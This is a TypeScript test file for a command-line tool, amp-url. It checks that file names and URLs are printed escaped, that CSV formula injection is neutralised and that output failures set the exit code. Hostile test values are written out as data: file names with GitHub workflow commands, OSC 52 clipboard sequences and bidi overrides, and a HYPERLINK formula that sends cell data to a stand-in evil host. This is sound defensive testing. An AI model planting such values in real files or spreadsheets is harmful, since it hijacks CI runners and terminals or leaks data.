// amp-url's output is data, never control (issue 26): file names and URLs holding a newline and a
// GitHub workflow command, ESC and OSC 52 sequences, CR and U+202E come out escaped in every
// text format, valid and exact in JSON and SARIF; CSV fields a spreadsheet would run are
// neutralised; a stdout that fails (/dev/full) or closes (`| head`) is in the exit code.
import * as assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { CLI } from './paths';

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function run(args: string[], o: { cwd?: string; input?: string; stdout?: number } = {}): Run {
  const r = spawnSync(process.execPath, [CLI, ...args], {
    cwd: o.cwd,
    input: o.input ?? '',
    encoding: 'utf8',
    stdio: ['pipe', o.stdout ?? 'pipe', 'pipe'],
  });
  // stdout given a file descriptor is not read.
  return { code: r.status, stdout: o.stdout === undefined ? r.stdout : '', stderr: r.stderr };
}

const CACHE = 'https://www-example-com.cdn.ampproject.org/c/s/www.example.com/a';
const FOUND = 'AMP Cache URL: the publisher URL is https://www.example.com/a [amp-cache-url]';
const OSC52 = '\u001b]52;c;aGk=\u0007';
// Each hostile file name and how a line of output shows it.
const NAMES: [string, string][] = [
  ['a\n::error::b.md', 'a\\n::error::b.md'],
  [`e${OSC52}.md`, 'e\\x1b]52;c;aGk=\\x07.md'],
  ['cr\rx.md', 'cr\\rx.md'],
  ['bidi\u202egpj.md', 'bidi\\u202egpj.md'],
  ['::warning::root.md', '\\x3a:warning::root.md'],
  ['##[add-mask]legacy.md', '#\\x23[add-mask]legacy.md'],
];
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028]/;

/** No line of `text` a CI runner would read as a command (GitHub's `::`, any `##[`). */
function assertNoCommandLine(text: string): void {
  for (const line of text.split('\n')) {
    assert.ok(!/^\s*::/.test(line), `a line starts with "::": ${JSON.stringify(line)}`);
    assert.ok(!line.includes('##'), `a line holds "##": ${JSON.stringify(line)}`);
  }
  assert.ok(!RAW_CONTROL.test(text), `a raw control: ${JSON.stringify(text)}`);
}

describe('amp-url output: file names and URLs are data, never control', function () {
  this.timeout(60_000);
  let repo: string;

  before(() => {
    repo = fs.mkdtempSync(path.join(os.tmpdir(), 'amp-url-out-'));
    execFileSync('git', ['init', '-q'], { cwd: repo });
    for (const [name] of NAMES) fs.writeFileSync(path.join(repo, name), `${CACHE}\n`);
    // A URL holding a legacy workflow command in its fragment, and a Bidi override.
    fs.writeFileSync(path.join(repo, 'urls.md'), `see ${CACHE}##[add-mask]b\n`);
  });
  after(() => {
    fs.rmSync(repo, { recursive: true, force: true });
  });

  it('check, text: every path and URL escaped, exactly; no line starts with :: nor holds ##', () => {
    const r = run(['check'], { cwd: repo });
    const expected = [
      ...NAMES.map(([, shown]) => `${shown}:1:1: ${FOUND}`),
      `urls.md:1:5: AMP Cache URL: the publisher URL is https://www.example.com/a#\\x23[add-mask]b [amp-cache-url]`,
    ];
    assert.deepEqual(r.stdout.split('\n').slice(0, -1).sort(), expected.sort());
    assertNoCommandLine(r.stdout);
    assertNoCommandLine(r.stderr);
    assert.equal(r.code, 1);
  });

  it('check, json, report and sarif: valid, the exact names, no raw control in the text', () => {
    const report = run(['check', '--format', 'report'], { cwd: repo });
    assertNoCommandLine(report.stdout);
    const { findings } = JSON.parse(report.stdout) as { findings: { path: string; url: string }[] };
    assert.deepEqual(
      findings.map((f) => f.path).sort(),
      [...NAMES.map(([name]) => name), 'urls.md'].sort(),
    );
    // json: the same findings as records, as find's and the conversions' json are.
    const json = run(['check', '--format', 'json'], { cwd: repo });
    assertNoCommandLine(json.stdout);
    const records = JSON.parse(json.stdout) as (Record<string, unknown> & { status: string })[];
    assert.deepEqual(
      records.map(({ status, ...rest }) => [status, rest]),
      findings.map((f) => ['found', f]),
    );
    const ndjson = run(['check', '--format', 'ndjson'], { cwd: repo }).stdout;
    assert.deepEqual(
      ndjson
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as unknown),
      records,
    );
    const sarif = run(['check', '--format', 'sarif'], { cwd: repo });
    assertNoCommandLine(sarif.stdout);
    const log = JSON.parse(sarif.stdout) as {
      runs: {
        results: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[];
      }[];
    };
    const uris = log.runs[0].results.map(
      (x) => x.locations[0].physicalLocation.artifactLocation.uri,
    );
    assert.ok(uris.includes('a%0A%3A%3Aerror%3A%3Ab.md'), uris.join(' '));
    assert.ok(uris.includes('bidi%E2%80%AEgpj.md'), uris.join(' '));
  });

  it('find, text and csv: the same escapes; csv stays RFC 4180', () => {
    const names = NAMES.map(([name]) => name);
    const text = run(['find', ...names], { cwd: repo });
    assert.deepEqual(
      text.stdout.split('\n').slice(0, -1),
      NAMES.map(([, shown]) => `${shown}:1:1: cache ${CACHE}`),
    );
    assertNoCommandLine(text.stdout);
    const csv = run(['find', '--format', 'csv', names[0], names[4]], { cwd: repo });
    assert.equal(
      csv.stdout,
      'file,line,column,endLine,endColumn,kind,url,text\r\n' +
        `a\\n::error::b.md,1,1,1,65,cache,${CACHE},${CACHE}\r\n` +
        `\\x3a:warning::root.md,1,1,1,65,cache,${CACHE},${CACHE}\r\n`,
    );
  });

  it('find: the "skipped" line on stderr escapes the name it reports', () => {
    const r = run(['find', `gone\n::error::x${OSC52}.md`], { cwd: repo });
    assert.equal(
      r.stderr,
      'amp-url find: gone\\n::error::x\\x1b]52;c;aGk=\\x07.md: skipped: unreadable (ENOENT)\n',
    );
    assert.equal(r.code, 2);
  });

  it('normalize and publisher: a URL holding OSC 52, CR or U+202E is printed escaped', () => {
    const url = `https://example.com/a${OSC52}b`;
    const normalized = run(['normalize', url, 'https://example.com/x\u202ey']);
    assertNoCommandLine(normalized.stdout + normalized.stderr);
    for (const line of normalized.stdout.split('\n').slice(0, -1))
      assert.ok(
        line === '' || /^https:\/\/example\.com\/(a\\x1b|x\\u202e|x%E2%80%AE)/.test(line),
        line,
      );
    const publisher = run(['publisher', '--format', 'csv'], {
      input: `https://www.google.com/amp/s/example.com/a${OSC52}b\n`,
    });
    assertNoCommandLine(publisher.stdout.replaceAll('\r\n', '\n') + publisher.stderr);
    const text = run(['publisher'], { input: `${CACHE}\r?q=\u202e\n` });
    assertNoCommandLine(text.stdout + text.stderr);
  });

  it('stderr: a refused argument holding a newline and a workflow command stays one line', () => {
    const r = run(['cache', '--cache', `x\n::error::y${OSC52}`, 'https://example.com/']);
    assert.equal(
      r.stderr,
      'amp-url cache: --cache must be google, bing, custom or a --custom-cache id (got "x\\n::error::y\\x1b]52;c;aGk=\\x07") (see amp-url cache --help)\n',
    );
    const unknown = run([`::error::${OSC52}`]);
    assert.match(unknown.stderr, /^amp-url: unknown command "::error::\\x1b\]52;c;aGk=\\x07"/);
    assert.equal(unknown.code, 2);
  });
});

describe('amp-url output: CSV fields a spreadsheet would run are neutralised (OWASP)', () => {
  it('=HYPERLINK(…), @…, +…, -… get a leading quote and are quoted; other fields as before', () => {
    const r = run(['normalize', '--format', 'csv'], {
      input:
        '=HYPERLINK("https://evil.example/?"&A1,"x")\n@SUM(1+1)\n+1\n-1\nhttps://a.example/x,y\n',
    });
    const lines = r.stdout.split('\r\n');
    assert.equal(lines[0], 'input,output,error');
    const refused =
      '"Only an absolute URI with a scheme can be normalized, like https://example.com/."';
    assert.equal(lines[1], `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",,${refused}`);
    assert.match(lines[2], /^"'@SUM\(1\+1\)",,/);
    assert.match(lines[3], /^"'\+1",,/);
    assert.match(lines[4], /^"'-1",,/);
    assert.equal(lines[5], '"https://a.example/x,y","https://a.example/x,y",');
  });
});

describe('amp-url output: every failure of stdout is in the exit code', function () {
  this.timeout(60_000);
  const full = () => fs.openSync('/dev/full', 'w');
  const noStack = (stderr: string) => {
    assert.equal(stderr.split('\n').length, 2, stderr);
    assert.ok(!/\n\s+at /.test(stderr), stderr);
  };

  it('/dev/full: --help, a conversion, check --format sarif and json exit 2 with one line', () => {
    if (!fs.existsSync('/dev/full')) return;
    const repo = fs.mkdtempSync(path.join(os.tmpdir(), 'amp-url-full-'));
    try {
      execFileSync('git', ['init', '-q'], { cwd: repo });
      fs.writeFileSync(path.join(repo, 'a.md'), `${CACHE}\n`);
      for (const [args, input] of [
        [['--help'], ''],
        [['check', '--help'], ''],
        [['publisher'], `${CACHE}\n`],
        [['publisher', '--format', 'json', CACHE], ''],
        [['check', '--format', 'sarif'], ''],
        [['check', '--format', 'json'], ''],
        [['check', '--format', 'report'], ''],
        [['check'], ''],
        [['find', 'a.md'], ''],
      ] as [string[], string][]) {
        const fd = full();
        const r = run(args, { cwd: repo, input, stdout: fd });
        fs.closeSync(fd);
        const who = args[0] === '--help' ? 'amp-url' : `amp-url ${args[0]}`;
        assert.equal(
          r.stderr.split('\n')[0],
          `${who}: could not write to stdout (ENOSPC: no space left on device): the output is incomplete`,
          args.join(' '),
        );
        noStack(r.stderr);
        assert.equal(r.code, 2, args.join(' '));
      }
    } finally {
      fs.rmSync(repo, { recursive: true, force: true });
    }
  });

  it('a reader that stops early (| head): no message, exit 141 as a Unix filter killed by SIGPIPE', () => {
    const list = Array.from({ length: 100_000 }, (_, i) => `${CACHE}/${i}`).join('\n');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'amp-url-pipe-'));
    try {
      fs.writeFileSync(path.join(dir, 'list.txt'), list);
      const r = spawnSync(
        'bash',
        [
          '-c',
          `"${process.execPath}" "${CLI}" publisher < list.txt 2> err.txt | head -n 1; echo "status \${PIPESTATUS[0]}"`,
        ],
        { cwd: dir, encoding: 'utf8' },
      );
      assert.equal(r.stdout, 'https://www.example.com/a/0\nstatus 141\n');
      assert.equal(fs.readFileSync(path.join(dir, 'err.txt'), 'utf8'), '');
      // stderr into the same pipe (refusals on stderr): the same end, whichever fails first.
      fs.writeFileSync(path.join(dir, 'plain.txt'), list.replaceAll(CACHE, 'https://example.com'));
      const both = spawnSync(
        'bash',
        [
          '-c',
          `"${process.execPath}" "${CLI}" publisher < plain.txt 2>&1 | head -n 1 >/dev/null; echo "status \${PIPESTATUS[0]}"`,
        ],
        { cwd: dir, encoding: 'utf8' },
      );
      assert.equal(both.stdout, 'status 141\n');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('stderr on /dev/full: exit 2, not the status of the findings', () => {
    if (!fs.existsSync('/dev/full')) return;
    const fd = full();
    const r = spawnSync(process.execPath, [CLI, 'publisher', 'https://example.com/'], {
      stdio: ['ignore', 'ignore', fd],
    });
    fs.closeSync(fd);
    assert.equal(r.status, 2);
  });
});
